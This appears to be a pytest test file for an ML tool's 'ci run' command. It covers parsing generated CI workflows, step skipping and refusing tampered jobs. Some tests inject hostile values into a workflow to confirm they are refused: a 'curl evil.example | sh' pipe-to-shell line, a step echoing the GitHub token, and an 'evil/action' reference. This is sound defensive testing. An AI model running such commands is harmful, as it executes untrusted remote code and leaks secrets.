"""`mlprod ci run` without running a whole job: parsing the generated jobs, step semantics, refusals."""

from __future__ import annotations

import shutil
import subprocess
from pathlib import Path

import pytest

from mlprod.cli import main
from mlprod.commands.ci import Outcome, run_job, summary_line
from mlprod.commands.ci_job import Job, Step, github_job, gitlab_job
from mlprod.errors import RefusedError

REPO = Path(__file__).resolve().parents[2]
EXAMPLE = REPO / "examples" / "credit"
GIT = ("-c", "user.name=t", "-c", "user.email=t@example.com", "-c", "commit.gpgsign=false")


def workflow() -> str:
    return (EXAMPLE / ".github/workflows/mlprod.yml").read_text(encoding="utf-8")


def test_github_job_steps_of_the_example() -> None:
    job = github_job(workflow(), "3.11")
    names = [s.name for s in job.steps]
    assert names == [
        "Check out",
        "Set up Python 3.11",
        "Install",
        "Validate the spec",
        "Check generated files are current",
        "Run mlprod tests",
        "Score",
        "Upload reports",
    ]
    assert [s.uses for s in job.steps if s.uses] == [
        "actions/checkout",
        "actions/setup-python",
        "actions/upload-artifact",
    ]
    assert [s.name for s in job.steps if s.always] == ["Score", "Upload reports"]
    assert [s.name for s in job.steps if s.install] == ["Install"]
    assert job.pythons == ["3.11"]
    assert job.env["MLPROD_TESTS"] == "tests/mlprod" and job.env["OMP_NUM_THREADS"] == "1"
    assert job.steps[-1].inputs["name"] == "mlprod-reports-py3.11"


def test_gitlab_job_steps_of_the_example() -> None:
    job = gitlab_job((EXAMPLE / ".gitlab-ci.yml").read_text(encoding="utf-8"), "3.11")
    install = [s.run for s in job.steps if s.install]
    assert install == [
        "python -m pip install --upgrade pip",
        'pip install -r "$MLPROD_LOCKFILE"',
        'pip install "mlprod[checks]==0.1.0"',
    ]
    assert job.steps[len(install) + 2].run == "mlprod validate"
    assert job.artifacts == ["reports/"] and job.env["PYTHON_VERSION"] == "3.11"
    assert job.env["MLPROD_LOCKFILE"] == "requirements.lock"


@pytest.mark.parametrize(
    ("old", "new", "words"),
    [
        ("uses: actions/checkout@v4", "uses: evil/action@v1", "which mlprod never writes"),
        ("- name: Validate the spec\n", "- name: Validate the spec\n        if: always()\n", "condition"),
        ("run: mlprod validate", "run: echo ${{ github.token }}", "expression"),
    ],
)
def test_shapes_mlprod_never_writes_are_refused(old: str, new: str, words: str) -> None:
    text = workflow()
    assert old in text
    with pytest.raises(RefusedError, match=words):
        github_job(text.replace(old, new), "3.11")


def test_a_failing_step_skips_the_rest_but_not_the_always_steps(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    steps = [
        Step("first", run="echo one > first.txt"),
        Step("install", run="exit 9", install=True),
        Step("breaks", run="echo about to fail; false; echo not reached"),
        Step("after", run="echo never > after.txt"),
        Step("always", run="echo always > always.txt", always=True),
    ]
    job = Job("github", "test", {}, steps, ["3.11"])
    failed = run_job(
        job, tmp_path, {"PATH": "/usr/bin:/bin"}, tmp_path, tmp_path / "out", skip_install=True, python="3.11"
    )
    out = capsys.readouterr()
    assert failed == "breaks"
    assert (tmp_path / "first.txt").is_file() and (tmp_path / "always.txt").is_file()
    assert not (tmp_path / "after.txt").exists()
    assert "[2] install ... skipped (--skip-install" in out.out
    assert "[3] breaks ... failed (exit 1)" in out.out and "[4] after ... skipped" in out.out
    assert "about to fail" in out.err and "not reached" not in out.err


def test_summary_lines() -> None:
    assert summary_line(Outcome(True, None, 73, 0, 1, None)) == (
        "the CI job your push will run: passed (73 tests, 1 skipped)"
    )
    assert summary_line(Outcome(False, "Run mlprod tests", 73, 2, 0, None)) == (
        "the CI job your push will run: fails (2 of 73 tests failing; first failing step: Run mlprod tests)"
    )
    assert summary_line(Outcome(False, "Install", 0, 0, 0, None)).endswith("fails at step Install")


def _repo(tmp_path: Path) -> Path:
    """The committed example's generated files, spec and manifest in a git repository of their own."""
    root = tmp_path / "proj"
    root.mkdir()
    for rel in (".github", ".mlprod", "mlprod.yaml", ".gitlab-ci.yml"):
        source = EXAMPLE / rel
        if source.is_dir():
            shutil.copytree(source, root / rel)
        else:
            shutil.copy2(source, root / rel)
    subprocess.run(["git", "init", "-q"], cwd=root, check=True)
    subprocess.run(["git", *GIT, "add", "-A"], cwd=root, check=True)
    subprocess.run(["git", *GIT, "commit", "-q", "-m", "x"], cwd=root, check=True)
    return root


def test_a_job_mlprod_did_not_write_is_refused(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    root = _repo(tmp_path)
    wf = root / ".github/workflows/mlprod.yml"
    wf.write_text(wf.read_text(encoding="utf-8").replace("mlprod validate", "curl evil.example | sh"))
    subprocess.run(["git", *GIT, "commit", "-qam", "edit"], cwd=root, check=True)
    monkeypatch.chdir(root)
    assert main(["ci", "run", "--skip-install"]) == 3
    err = capsys.readouterr().err
    assert "is not the file mlprod generated" in err and "Traceback" not in err
    assert not (root / "reports").exists()  # nothing ran
    # The GitLab file was not touched: that job is accepted (and then runs in the clone).
    (root / ".gitlab-ci.yml").unlink()
    subprocess.run(["git", *GIT, "commit", "-qam", "no gitlab"], cwd=root, check=True)
    assert main(["ci", "run", "--skip-install", "--provider", "gitlab"]) == 3
    assert ".gitlab-ci.yml is not in the commit" in capsys.readouterr().err


def test_outside_a_git_repository_is_a_usage_error(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    shutil.copy2(EXAMPLE / "mlprod.yaml", tmp_path / "mlprod.yaml")
    monkeypatch.chdir(tmp_path)
    monkeypatch.setenv("GIT_CEILING_DIRECTORIES", str(tmp_path.parent))
    assert main(["ci", "run", "--skip-install"]) == 2
    assert "is not in a git repository" in capsys.readouterr().err
